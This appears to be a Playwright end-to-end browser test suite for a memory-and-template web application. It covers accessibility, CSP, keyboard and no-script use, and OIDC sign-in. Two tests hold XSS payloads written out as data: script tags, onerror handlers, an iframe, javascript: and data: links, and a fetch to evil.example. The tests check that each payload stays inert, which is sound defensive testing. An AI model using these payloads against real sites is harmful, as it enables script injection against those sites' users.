import { mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { startListeningApp, type ListeningTestApp } from '../support/app';
import { describeViolations, launchChromium, seriousViolations } from '../support/browser';
import { postgresOnly } from '../support/database';
import { providerEnv, startTestProvider, type TestProvider } from '../support/oidc-provider';
import { localAccount } from '../support/web';

/**
 * The application in a real browser (Debian's Chromium, by playwright-core), as a person uses it:
 * every flow end to end, axe-core on every page it passes through, no Content-Security-Policy
 * violation, and a form that works without JavaScript. Run once, on PostgreSQL. With
 * SCREENSHOTS_DIR set, the main pages are saved there (the README's screenshots).
 */

const PASSWORD = 'a long and good password';
const SCREENSHOTS = process.env.SCREENSHOTS_DIR;

interface Visited {
  readonly url: string;
  readonly violations: string;
}

/** Every page a test opens is checked by axe; console errors (a CSP violation among them) are collected. */
class Person {
  readonly visited: Visited[] = [];
  readonly consoleErrors: string[] = [];

  constructor(readonly page: Page) {
    page.on('console', (message) => {
      // A refused form's page (a 4xx document) is logged as a failed load: that is the page working.
      if (message.type() === 'error' && !message.text().startsWith('Failed to load resource')) this.consoleErrors.push(message.text());
    });
    page.on('pageerror', (error) => this.consoleErrors.push(error.message));
  }

  async check(): Promise<void> {
    const violations = await seriousViolations(this.page);
    this.visited.push({ url: this.page.url(), violations: describeViolations(this.page.url(), violations) });
  }

  async screenshot(name: string): Promise<void> {
    if (!SCREENSHOTS) return;
    mkdirSync(SCREENSHOTS, { recursive: true });
    await this.page.screenshot({ path: join(SCREENSHOTS, `${name}.png`), fullPage: true });
  }
}

postgresOnly('browser tests')('the application in a browser', () => {
  let browser: Browser;
  let testApp: ListeningTestApp;
  let context: BrowserContext;
  let person: Person;

  beforeAll(async () => {
    browser = await launchChromium();
    testApp = await startListeningApp();
  });
  afterAll(async () => {
    await browser?.close();
    await testApp?.close();
  });
  beforeEach(async () => {
    context = await browser.newContext({ viewport: { width: 1200, height: 900 } });
    person = new Person(await context.newPage());
  });
  afterEach(async () => {
    await context.close();
    // No page a flow passed through has a serious or critical accessibility violation.
    expect(person.visited.map((v) => v.violations).filter(Boolean).join('\n')).toBe('');
    expect(person.consoleErrors).toEqual([]);
  });

  const url = (path: string) => `${testApp.baseUrl}${path}`;

  async function signIn(page: Page, email: string): Promise<void> {
    await page.goto(url('/sign-in'));
    await page.getByLabel('Email').fill(email);
    await page.getByLabel('Password').fill(PASSWORD);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL(url('/'));
  }

  it('sets up the owner, creates a key, sees its activity, revokes it, and signs out and in', async () => {
    const { page } = person;
    await page.goto(url('/'));
    await page.waitForURL(url('/setup'));
    await person.check();
    await person.screenshot('setup');
    await page.getByLabel('Email').fill('owner@example.com');
    await page.getByLabel('Password').fill('short');
    await page.getByRole('button', { name: 'Create account' }).click();
    expect(await page.locator('#field-password-error').textContent()).toBe('Must be at least 12 characters.');
    expect(await page.getByLabel('Password').getAttribute('aria-invalid')).toBe('true');
    await person.check();
    await page.getByLabel('Password').fill(PASSWORD);
    await page.getByRole('button', { name: 'Create account' }).click();
    await page.waitForURL(url('/'));
    await person.check();

    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Settings' }).click();
    await page.waitForURL(url('/settings/api-keys'));
    await person.check();
    await page.getByLabel('Name').fill('laptop agent');
    await page.getByLabel('Read-write').check();
    await page.getByRole('button', { name: 'Create key' }).click();
    const secret = (await page.getByLabel('New key secret').textContent())!.trim();
    expect(secret).toMatch(/^mtl_rw_/);
    await expect(page.getByRole('button', { name: 'Copy' }).isVisible()).resolves.toBe(true);
    await person.check();
    await person.screenshot('api-keys');

    // The key, used as curl would use it.
    const created = await fetch(url('/v1/memories'), {
      method: 'POST',
      headers: { Authorization: `Bearer ${secret}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ text: 'Written by the laptop agent' }),
    });
    expect(created.status).toBe(201);
    expect((await fetch(url('/v1/memories/mem_00000000000000000000000000'), { headers: { Authorization: `Bearer ${secret}` } })).status).toBe(404);

    await page.goto(url('/settings/api-keys'));
    const row = page.getByRole('row', { name: /laptop agent/ });
    await row.getByRole('link', { name: 'Activity' }).click();
    await page.getByText('POST /v1/memories').first().waitFor();
    await person.check();
    await person.screenshot('activity');
    await page.getByLabel('Status').selectOption('4xx');
    await page.getByRole('button', { name: 'Filter' }).click();
    await page.getByText('GET /v1/memories/{id}').waitFor();
    expect(await page.getByText('POST /v1/memories').count()).toBe(0);

    await page.goto(url('/settings/api-keys'));
    await page.getByRole('row', { name: /laptop agent/ }).getByRole('button', { name: 'Revoke' }).click();
    await person.check();
    await page.getByRole('button', { name: 'Revoke' }).click();
    await page.getByText('The key is revoked').waitFor();
    expect((await fetch(url('/v1/memories'), { headers: { Authorization: `Bearer ${secret}` } })).status).toBe(401);

    await page.getByRole('link', { name: 'Sessions' }).click();
    await person.check();
    await page.getByRole('button', { name: 'Sign out' }).first().click();
    await page.waitForURL(/\/sign-in/);
    await person.check();
    await signIn(page, 'owner@example.com');
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Console');
  });

  it('creates a Memory, shows hostile text as text, trashes it and restores it', async () => {
    const { page } = person;
    await signIn(page, 'owner@example.com');
    await page.getByRole('link', { name: 'Memories' }).click();
    await page.getByRole('link', { name: 'New memory' }).click();
    await person.check();
    await page.getByLabel('Text').fill('<script>document.title="owned"</script><img src=x onerror=alert(1)> Prefers green tea');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByText('The Memory is saved.').waitFor();
    expect(await page.locator('.memory-text').first().textContent()).toContain('<script>document.title="owned"</script>');
    expect(await page.title()).not.toBe('owned');
    expect(await page.locator('main img').count()).toBe(0);
    await person.check();
    await person.screenshot('memory');

    await page.getByRole('link', { name: 'Back to the list' }).click();
    await page.getByLabel('Search').fill('green tea');
    await page.getByRole('button', { name: 'Search' }).click();
    await page.getByRole('link', { name: /Prefers green tea/ }).waitFor();
    await person.check();
    await person.screenshot('memories');
    await page.getByRole('link', { name: /Prefers green tea/ }).click();
    await page.getByRole('button', { name: 'Move to trash' }).click();
    await page.getByText('The Memory is in the trash').waitFor();
    await page.getByRole('link', { name: 'Trash' }).click();
    await person.check();
    await page.getByRole('button', { name: 'Restore' }).click();
    await page.getByText('The Memory is restored.').waitFor();
    expect(await page.locator('.memory-text').first().textContent()).toContain('Prefers green tea');
  });

  it('accepts a suggestion from the Inbox and shows the Fact; dismisses an insight', async () => {
    const { page } = person;
    await signIn(page, 'owner@example.com');
    // An agent's work, through a key of the account.
    await page.goto(url('/settings/api-keys'));
    await page.getByLabel('Name').fill('reviewer agent');
    await page.getByLabel('Read-write').check();
    await page.getByRole('button', { name: 'Create key' }).click();
    const key = (await page.getByLabel('New key secret').textContent())!.trim();
    const api = async (path: string, body: unknown) => {
      const answer = await fetch(url(`/v1${path}`), {
        method: 'POST',
        headers: { Authorization: `Bearer ${key}`, 'Content-Type': 'application/json' },
        body: JSON.stringify(body),
      });
      return ((await answer.json()) as { data: { id: string } }).data;
    };
    const subject = await api('/subjects', { name: 'Ada Lovelace', kind: 'person' });
    const memory = await api('/memories', { text: 'Ada told me she moved to London last spring.' });
    await api(`/subjects/${subject.id}/memories`, { memory_id: memory.id });
    await api(`/subjects/${subject.id}/fact-suggestions`, { statement: 'Ada lives in London.', source_memory_ids: [memory.id] });

    await page.goto(url('/inbox'));
    await page.getByText('Ada lives in London.').waitFor();
    await page.getByText('1 source Memory').click();
    await page.getByRole('link', { name: 'Ada told me she moved to London last spring.' }).waitFor();
    await person.check();
    await person.screenshot('inbox');
    await page.getByRole('button', { name: 'Accept' }).click();
    await page.waitForURL(new RegExp(`/subjects/${subject.id}`));
    await page.getByText('The suggestion is accepted').waitFor();
    expect(await page.locator('.facts li').first().textContent()).toContain('Ada lives in London.');
    await person.check();
    await person.screenshot('subject');
    await page.getByRole('link', { name: 'Inbox' }).click();
    await page.getByText('No suggestion waits for review.').waitFor();
    for (const dismiss of await page.getByRole('button', { name: 'Dismiss' }).all()) {
      await dismiss.click();
      await page.getByText('The insight is dismissed.').waitFor();
    }
    await person.check();
    await page.getByRole('link', { name: 'Subjects' }).click();
    await person.check();
    await page.getByRole('link', { name: 'Library' }).click();
    await person.check();
  });

  it('passes axe-core on every page, refusals and confirmations included', async () => {
    const { page } = person;
    await page.goto(url('/sign-up'));
    await person.check();
    await signIn(page, 'owner@example.com');
    const memory = (await (await page.request.get(url('/memories'))).text()).match(/href="\/memories\/(mem_[0-9A-Z]+)"/)![1]!;
    const subject = (await (await page.request.get(url('/subjects'))).text()).match(/href="\/subjects\/(sub_[0-9A-Z]+)"/)![1]!;
    const key = (await (await page.request.get(url('/settings/api-keys'))).text()).match(/data-key-id="(key_[0-9A-Z]+)"/)![1]!;
    for (const path of [
      '/',
      '/memories',
      '/memories?type=note&pinned=true',
      '/memories/new',
      `/memories/${memory}`,
      `/memories/${memory}/edit`,
      '/memories/trash',
      '/memories/export',
      '/memories/import',
      '/subjects',
      '/subjects/new',
      `/subjects/${subject}`,
      `/subjects/${subject}/edit`,
      '/inbox',
      '/library',
      '/library/mine',
      '/library/mine/new',
      '/settings/api-keys',
      `/settings/api-keys/${key}/activity`,
      '/settings/sessions',
      '/settings/invitations',
      '/no/such/page',
      '/memories/mem_00000000000000000000000000',
    ]) {
      await page.goto(url(path));
      await person.check();
    }
    // A refused form, a confirmation, an invitation link shown once.
    await page.goto(url('/memories/new'));
    await page.getByRole('button', { name: 'Save' }).click();
    await page.locator('#field-text-error').waitFor();
    await person.check();
    await page.goto(url(`/subjects/${subject}`));
    await page.getByRole('button', { name: 'Delete subject' }).click();
    await page.getByText('This cannot be undone.').waitFor();
    await person.check();
    await page.goto(url('/settings/invitations'));
    await page.getByRole('button', { name: 'Create invitation link' }).click();
    await page.getByLabel('Invitation link', { exact: true }).waitFor();
    await person.check();
    expect(person.visited.length).toBeGreaterThanOrEqual(25);
  });

  it('publishes from the browser: new template, a stale save from a second tab, review findings, the checklist, unpublish', async () => {
    const { page } = person;
    await signIn(page, 'owner@example.com');
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Library' }).click();
    await page.getByRole('link', { name: 'Your templates' }).click();
    await person.check();
    await page.getByRole('link', { name: 'New template' }).click();
    await person.check();
    await page.getByLabel('Name').fill('Weekly review');
    await page.getByLabel('Summary').fill('A calm weekly review for busy teams.');
    await page.getByLabel('Tags').fill('planning, weekly');
    await page.getByRole('button', { name: 'Create template' }).click();
    await page.getByText('The Template is created.').waitFor();
    const editor = page.url().replace(/\?.*/, '');
    await person.check();

    // A second tab opens the same draft; the first saves; the second's save is refused, showing what changed.
    const secondTab = await context.newPage();
    await secondTab.goto(editor);
    await page.getByLabel('Content of README.md').fill('# Weekly review\n\nToo short.\n');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByText('The draft is saved.').waitFor();
    await secondTab.getByLabel('Content of README.md').fill('# Written in the second tab\n');
    await secondTab.getByRole('button', { name: 'Save' }).click();
    await secondTab.getByText('This draft was saved elsewhere after you opened it').waitFor();
    expect(await secondTab.getByRole('alert').filter({ hasText: 'saved elsewhere' }).textContent()).toContain('Changed since: README.md.');
    expect(await secondTab.getByLabel('Content of README.md').inputValue()).toBe('# Written in the second tab\n');
    await secondTab.getByRole('link', { name: 'Reload the current draft' }).click();
    expect(await secondTab.getByLabel('Content of README.md').inputValue()).toBe('# Weekly review\n\nToo short.\n');
    await secondTab.close();

    // The review finds the README too short and says so beside it.
    await page.getByRole('button', { name: 'Submit for review' }).click();
    const finding = page.getByRole('note', { name: 'Review findings on README.md' });
    await finding.waitFor();
    expect(await finding.textContent()).toContain('README.md needs at least 40 non-blank characters');
    await person.check();
    await person.screenshot('library-editor');
    expect(await page.getByRole('button', { name: 'Publish' }).count()).toBe(0);

    // Fixed with the keyboard, saved, reviewed again: Publish waits for every item of the checklist.
    await page.getByLabel('Content of README.md').focus();
    await page.keyboard.press('Control+End');
    await page.keyboard.type('A checklist to close the week calmly and plan the next one.\n');
    await page.getByRole('button', { name: 'Save' }).focus();
    await page.keyboard.press('Enter');
    await page.getByText('The draft is saved.').waitFor();
    await page.getByRole('button', { name: 'Submit for review' }).click();
    const publish = page.getByRole('button', { name: 'Publish' });
    await publish.waitFor();
    await page.getByLabel('Release notes of this version').fill('The first version of the weekly review.');
    const items = page.getByRole('group', { name: 'Before publishing, confirm each item' }).getByRole('checkbox');
    expect(await items.count()).toBe(5);
    for (let i = 0; i < 5; i += 1) {
      expect(await publish.isDisabled()).toBe(true);
      await items.nth(i).check();
    }
    expect(await publish.isEnabled()).toBe(true);
    await person.check();
    await publish.click();
    await page.getByText('The Template is published').waitFor();
    await page.getByRole('link', { name: 'Its page in the Library' }).click();
    await page.getByRole('heading', { level: 1, name: 'Weekly review' }).waitFor();
    expect(await page.locator('.readme').textContent()).toContain('A checklist to close the week calmly');

    // A second account copies it into its own templates, crediting the source.
    const templatePage = page.url();
    await localAccount(testApp, 'second@example.com', PASSWORD);
    const second = await browser.newContext();
    try {
      const reader = new Person(await second.newPage());
      await signIn(reader.page, 'second@example.com');
      await reader.page.goto(templatePage);
      await reader.page.getByRole('button', { name: 'Copy to my templates' }).click();
      await reader.page.getByText('The Template is copied into your templates').waitFor();
      expect(await reader.page.getByText('Copied from').textContent()).toContain('version 1');
      await reader.check();
      expect(reader.visited.map((v) => v.violations).filter(Boolean)).toEqual([]);
      expect(reader.consoleErrors).toEqual([]);
    } finally {
      await second.close();
    }

    await page.goto(editor);
    await page.getByRole('button', { name: 'Unpublish' }).click();
    await page.getByText('The Template is unpublished').waitFor();
    expect((await fetch(templatePage)).status).toBe(404);
  });

  it('lets a visitor find, read and download a published Template, whose hostile README stays inert', async () => {
    const creator = await testApp.account();
    const headers = { Authorization: `Bearer ${creator.readWriteKey}`, 'Content-Type': 'application/json' };
    const call = async (path: string, body: unknown, method = 'POST') => {
      const answer = await fetch(url(path), { method, headers, body: JSON.stringify(body) });
      if (answer.status >= 300) throw new Error(`${path}: ${answer.status} ${await answer.text()}`);
      return (await answer.json()) as { data: { template: { id: string } } };
    };
    const created = await call('/v1/library/templates/workflow', { action: 'create', name: 'Hostile but harmless', summary: 'A README that tries everything.', category: 'engineering', license: 'MIT' });
    const id = created.data.template.id;
    const readme = [
      '# Hostile but harmless',
      '',
      'This README tries to run script in the browser of whoever reads it; every attempt stays text.',
      '',
      '<script>document.title = "owned"; fetch("https://evil.example/script")</script>',
      '<img src="https://evil.example/onerror.png" onerror="alert(1)">',
      '<iframe src="https://evil.example/frame"></iframe>',
      '',
      '[click me](javascript:alert(2)) · [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==) · ![pixel](https://evil.example/pixel.png)',
      '',
      'See [the notes](notes.md).',
      '',
    ].join('\n');
    await call(`/v1/library/templates/${id}/draft`, { base_revision: 1, files: [{ path: 'README.md', content: readme }, { path: 'notes.md', content: 'Plain notes.\n' }] }, 'PUT');
    await call('/v1/library/templates/workflow', { action: 'submit_review', template_id: id, revision: 2 });
    await call('/v1/library/templates/workflow', {
      action: 'publish',
      template_id: id,
      revision: 2,
      release_notes: 'The first public version.',
      confirm: { license: 'MIT', files_public: true, reviewed_revision: 2 },
    });

    const { page } = person;
    const dialogs: string[] = [];
    const elsewhere: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      if (!request.url().startsWith(testApp.baseUrl)) elsewhere.push(request.url());
    });
    await page.goto(url('/library'));
    await person.check();
    await page.getByLabel('Search').fill('hostile harmless');
    await page.getByLabel('Search').press('Enter');
    await page.getByRole('link', { name: 'Hostile but harmless' }).click();
    await page.getByRole('heading', { level: 1, name: 'Hostile but harmless' }).waitFor();
    await person.check();
    await person.screenshot('library-template');
    expect(await page.title()).toBe('Hostile but harmless · MTL');
    expect(await page.locator('.readme').textContent()).toContain('<script>document.title = "owned"');
    expect(await page.locator('.readme script, .readme img, .readme iframe').count()).toBe(0);
    expect(await page.locator('.readme a[href^="javascript:"], .readme a[href^="data:"]').count()).toBe(0);
    expect(await page.locator('.readme a').evaluateAll((links) => links.map((link) => link.getAttribute('rel')))).toEqual(
      expect.arrayContaining(['nofollow ugc noopener noreferrer']),
    );

    await page.getByRole('link', { name: 'the notes' }).click();
    await page.getByText('Plain notes.').waitFor();
    await person.check();
    await page.goBack();

    const downloading = page.waitForEvent('download');
    await page.getByRole('link', { name: 'Download' }).click();
    const download = await downloading;
    expect(download.suggestedFilename()).toBe('hostile-but-harmless-v1.zip');
    const entries = unzipSync(new Uint8Array(readFileSync((await download.path())!)));
    expect(Object.keys(entries).sort()).toEqual(['hostile-but-harmless-v1/README.md', 'hostile-but-harmless-v1/notes.md']);
    expect(strFromU8(entries['hostile-but-harmless-v1/README.md']!)).toBe(readme);

    await page.goto(url('/library'));
    await person.screenshot('library');
    expect(dialogs).toEqual([]);
    expect(elsewhere).toEqual([]);
  });

  it('works without JavaScript, and with the keyboard', async () => {
    const noScript = await browser.newContext({ javaScriptEnabled: false });
    try {
      const page = await noScript.newPage();
      const quiet = new Person(page);
      await signIn(page, 'owner@example.com');
      await page.goto(url('/memories/new'));
      await page.getByLabel('Text').fill('Saved without any script');
      await page.getByRole('button', { name: 'Save' }).click();
      await page.getByText('The Memory is saved.').waitFor();
      await page.goto(url('/settings/api-keys'));
      await page.getByLabel('Name').fill('no script key');
      await page.getByRole('button', { name: 'Create key' }).click();
      expect(await page.getByLabel('New key secret').textContent()).toMatch(/^mtl_ro_/);
      // Without the script the copy button stays hidden: the secret is selectable text.
      expect(await page.getByRole('button', { name: 'Copy' }).count()).toBe(0);
      expect(quiet.consoleErrors).toEqual([]);
    } finally {
      await noScript.close();
    }

    const { page } = person;
    await signIn(page, 'owner@example.com');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Skip to content');
    await page.goto(url('/memories/new'));
    await page.getByLabel('Text').focus();
    await page.keyboard.type('Typed with the keyboard only');
    // Tab through the form to its Save button and press Enter.
    for (let i = 0; i < 12; i += 1) {
      if ((await page.evaluate(() => document.activeElement?.textContent)) === 'Save') break;
      await page.keyboard.press('Tab');
    }
    await page.keyboard.press('Enter');
    await page.getByText('The Memory is saved.').waitFor();
  });
});

postgresOnly('browser tests')('signing in with an OpenID Connect provider', () => {
  let browser: Browser;
  let testApp: ListeningTestApp;
  let provider: TestProvider;

  beforeAll(async () => {
    browser = await launchChromium();
    provider = await startTestProvider();
    testApp = await startListeningApp({ env: providerEnv(provider) });
    await provider.serve(testApp.baseUrl);
  });
  afterAll(async () => {
    await browser?.close();
    await testApp?.close();
    await provider?.close();
  });

  it('signs in through the provider (code flow with PKCE) and back to the console, with a session like any other', async () => {
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const person = new Person(page);
      await page.goto(`${testApp.baseUrl}/sign-in`);
      // The instance has no owner: sign-in offers set-up; the provider's link is on the sign-in page once it has one.
      await page.goto(`${testApp.baseUrl}/setup`);
      await page.getByLabel('Email').fill('owner@example.com');
      await page.getByLabel('Password').fill(PASSWORD);
      await page.getByRole('button', { name: 'Create account' }).click();
      await page.getByRole('button', { name: 'Sign out' }).click();
      await page.waitForURL(/\/sign-in/);
      await person.check();
      await page.getByRole('link', { name: 'Sign in with Test IdP' }).click();
      await page.getByPlaceholder('Enter any login').fill('grace');
      await page.getByPlaceholder('and password').fill('anything');
      await page.getByRole('button', { name: 'Sign-in' }).click();
      await page.getByRole('button', { name: 'Continue' }).click();
      await page.waitForURL(`${testApp.baseUrl}/`);
      expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Console');
      expect(await page.locator('.who').textContent()).toBe('IdP grace');
      const identities = await testApp.database.db.selectFrom('account_identities').select(['subject']).execute();
      expect(identities.map((identity) => identity.subject)).toEqual(['grace']);
      await page.goto(`${testApp.baseUrl}/settings/sessions`);
      await page.getByText('single sign-on').waitFor();
      expect(person.visited.map((v) => v.violations).filter(Boolean)).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it('refuses a return from the provider that this service did not start', async () => {
    const answer = await fetch(`${testApp.baseUrl}/sign-in/oidc/callback?code=stolen&state=forged`);
    expect(answer.status).toBe(401);
    expect(await answer.text()).toContain('this sign-in was not started here');
  });
});
